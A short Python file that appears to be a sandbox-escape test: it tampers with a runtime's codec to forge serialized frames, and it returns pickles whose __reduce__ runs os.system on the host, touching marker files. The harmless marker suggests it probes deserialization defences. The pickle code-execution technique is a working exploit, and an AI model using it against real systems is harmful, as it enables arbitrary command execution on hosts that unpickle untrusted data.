# ruff: noqa
"""Answers with the names of functions to be imported, modules to be built and pickles to be loaded.

class: forged frames
"""

# %% double
import gc, pickle, os

runtime = next(o for o in gc.get_objects() if type(o).__name__ == "Runtime")
trees = iter(
    (
        ["q", "os", "system"],
        ["M", 7, ["torch.nn.modules.linear", "Linear"], True, [], [], [], [], []],
    )
)


class Bomb:
    def __reduce__(self):
        return os.system, ("touch HOST_FOLDER/HOST_MARK /tmp/HOST_MARK",)


def double(x):
    tree = next(trees, None)
    if tree is None:
        return pickle.dumps(Bomb())
    runtime._codec.encode = lambda value, *_: tree
    return None


# %% scale
def scale(x, by):
    return np.array([Bomb()], dtype=object)
